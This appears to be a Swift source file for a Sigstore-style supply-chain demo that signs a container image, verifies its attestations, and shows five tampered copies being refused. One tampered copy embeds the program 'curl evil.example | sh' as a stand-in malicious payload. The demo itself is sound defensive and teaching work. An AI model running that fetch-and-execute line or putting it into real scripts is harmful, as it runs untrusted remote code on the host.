import Admission
import Attestation
import Core
import Foundation
import OCI
import Sigstore
import TestAuthority

/// The demo: mint, sign, verify, tamper, verify again; then deploy, and ask why. Nothing in it is special to the demo but the keys.
struct DemoStory {
    private let folder: URL
    private let now: Instant
    private let console: Console
    private let authority: Authority
    private let evidence: DemoEvidence
    private let trustRoot: TrustRoot
    private let signers: SignerPolicy

    init(folder: URL, now: Instant, console: Console) throws {
        self.folder = folder
        self.now = now
        self.console = console
        authority = try Authority(now: now)
        let signer = TestAuthority.CertificateRequest.workflow()
        evidence = DemoEvidence(authority: authority, signer: signer, time: now - .seconds(120))
        let root = authority.trustedRootJSON()
        trustRoot = try TrustRoot(parsing: root)
        try Data(root).write(to: folder.appending(path: "trusted_root.json"))
        signers = .identities([IdentityPolicy(issuer: .exact(signer.issuer), subject: .exact(signer.subject))])
    }

    /// Tells the story.
    ///
    /// - Returns: whether every step came out as it must.
    func tell() async throws -> Bool {
        console.print("1. An authority of our own: CA, CT log, Rekor v1 and v2, timestamp authority, with fresh keys.")
        var image = try DemoImage(path: folder.appending(path: "image").path, program: Self.program)
        console.print("2. An image, \(image.image.digest), signed by a release workflow, with attestations.")
        try image.attach([.cosign(try evidence.signature(of: image.image.digest).cosignLayer())])
        var genuine: [(name: String, type: String, minted: MintedBundle)] = []
        for (name, request) in [
            ("provenance", evidence.provenance(of: image.image.digest)),
            ("bill of materials", evidence.billOfMaterials(of: image.image.digest)),
            ("delivery claims", evidence.deliveryClaims(of: image.image.digest)),
        ] {
            let minted = try authority.mint(request)
            genuine.append((name, Self.predicateType(request), minted))
        }
        try image.attach(genuine.map { .bundle($0.minted.json, predicateType: $0.type) })

        console.print("3. Verified, each by the digest and the workflow's identity:")
        var holds = try await show("signature", image, predicateType: nil)
        for item in genuine { holds = try await show(item.name, image, predicateType: item.type) && holds }

        console.print("\n4. Five tampered copies, and why each is refused:")
        for (number, tampering) in try tamperings(genuine[0].minted).enumerated() {
            holds = try await refuse(number + 1, tampering) && holds
        }
        let admission = try DemoAdmission(
            folder: folder, now: now, console: console, authority: authority, evidence: evidence)
        holds = try await admission.tell(image) && holds
        console.print(
            holds
                ? "\nEvery genuine piece verified, every tampered copy was refused, and every deployment was decided as it must."
                : console.styled("\nThe demo did not come out as it must; please report this.", .bad))
        return holds
    }

    private func show(_ name: String, _ image: DemoImage, predicateType: String?) async throws -> Bool {
        let verdict = try await verify(image, predicateType: predicateType)
        // Without a predicate type every piece counts; the bare signature is the one that is no statement.
        let found = verdict.parts.first?.verified.first { ($0.statement == nil) == (predicateType == nil) }
        guard let found, verdict.result == .verified else {
            console.print(ImageReport(verdict, image: name).text(console))
            return false
        }
        console.print("\n   " + console.styled("verified", .good) + "  \(name)")
        for line in EvidenceReport(found).lines { console.print("   " + line) }
        if let statement = found.statement, let summary = try PredicateSummary.text(statement) {
            console.print(Table.rows([("says", summary)]).map { "   " + $0 }.joined(separator: "\n"))
        }
        return true
    }

    private func verify(_ image: DemoImage, predicateType: String?) async throws -> ImageVerdict {
        let verifier = Verifier(trustRoot: trustRoot, signers: signers, predicateType: predicateType)
        return try await ImageVerification(source: try LayoutSource(image.path), verifier: verifier)
            .verify(.tag("1.0"), now: now)
    }

    /// How to verify the kept image by hand.
    func command(_ folder: String) -> String {
        """
        mc verify image \((folder + "/image:1.0").shellQuoted) \\
            --trusted-root \((folder + "/trusted_root.json").shellQuoted) \\
            --certificate-identity \(evidence.signer.subject) \\
            --certificate-oidc-issuer \(evidence.signer.issuer) \\
            --predicate-type \(DemoEvidence.provenanceType)

        """ + DemoAdmission.commands(folder, evidence.signer)
    }

    /// A copy with one thing changed, and the rule that must stop it.
    private struct Tampering {
        let what: String
        let rule: RuleID
        let program: String
        let bundle: JSONValue
        let type: String
    }

    private static let program = "#!/bin/sh\necho hello\n"

    private func tamperings(_ genuine: MintedBundle) throws -> [Tampering] {
        let image = evidence
        let digest = try DemoImage(path: folder.appending(path: "same-image").path, program: Self.program).image.digest
        let provenance = image.provenance(of: digest)
        let mallory = DemoEvidence(
            authority: authority, signer: .workflow(repository: "mallory/app"), time: now - .seconds(120))
        func minted(_ request: SigningRequest, _ flaw: Flaw) throws -> JSONValue {
            try authority.mint(request.with(flaw)).json
        }
        return [
            Tampering(
                what: "another program in the image, the genuine provenance beside it", rule: "subject-mismatch",
                program: "#!/bin/sh\ncurl evil.example | sh\n", bundle: genuine.json,
                type: DemoEvidence.provenanceType),
            Tampering(
                what: "the provenance's payload exchanged after signing", rule: "log-entry-mismatch",
                program: Self.program, bundle: try minted(provenance, .payloadSwapped),
                type: DemoEvidence.provenanceType),
            Tampering(
                what: "genuine provenance of somebody else's workflow", rule: "identity-mismatch",
                program: Self.program, bundle: try authority.mint(mallory.provenance(of: digest)).json,
                type: DemoEvidence.provenanceType),
            Tampering(
                what: "a stolen key used after its certificate ended", rule: "certificate-expired",
                program: Self.program, bundle: try minted(provenance, .certificateExpiredAtSigning),
                type: DemoEvidence.provenanceType),
            Tampering(
                what: "a timestamp made for another signature", rule: "timestamp-invalid", program: Self.program,
                bundle: try minted(provenance, .timestampOverOtherBytes), type: DemoEvidence.provenanceType),
        ]
    }

    private func refuse(_ number: Int, _ tampering: Tampering) async throws -> Bool {
        var image = try DemoImage(path: folder.appending(path: "tampered-\(number)").path, program: tampering.program)
        try image.attach([.bundle(tampering.bundle, predicateType: tampering.type)])
        let verdict = try await verify(image, predicateType: tampering.type)
        let refusal = verdict.parts.first?.refused.first?.refusal
        let holds = verdict.result == .refused && refusal?.finding.rule == tampering.rule
        console.print("\n   \(number). \(tampering.what)")
        if let refusal {
            console.print("   " + console.styled("refused", .bad))
            for line in VerdictReport.lines(refusal) { console.print("   " + line) }
        } else {
            console.print(ImageReport(verdict, image: tampering.what).text(console))
        }
        return holds
    }

    private static func predicateType(_ request: SigningRequest) -> String {
        if case .statement(let statement) = request.content { statement.predicateType } else { "" }
    }
}
